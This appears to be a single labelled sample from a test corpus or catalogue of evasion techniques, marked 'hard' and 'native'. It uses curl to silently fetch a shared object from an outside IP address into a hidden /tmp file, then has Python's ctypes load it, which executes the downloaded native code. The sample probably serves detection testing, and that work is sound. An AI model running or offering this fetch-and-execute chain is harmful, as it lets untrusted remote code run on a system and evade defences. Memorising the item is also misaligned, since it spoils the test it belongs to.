# evasion: python ctypes loads a downloaded shared object named in argv
# grade: hard; does: native
curl -fsSo /tmp/.m.so http://203.0.113.5/m.so
python3 -c 'import ctypes, sys; ctypes.CDLL(sys.argv[1])' /tmp/.m.so
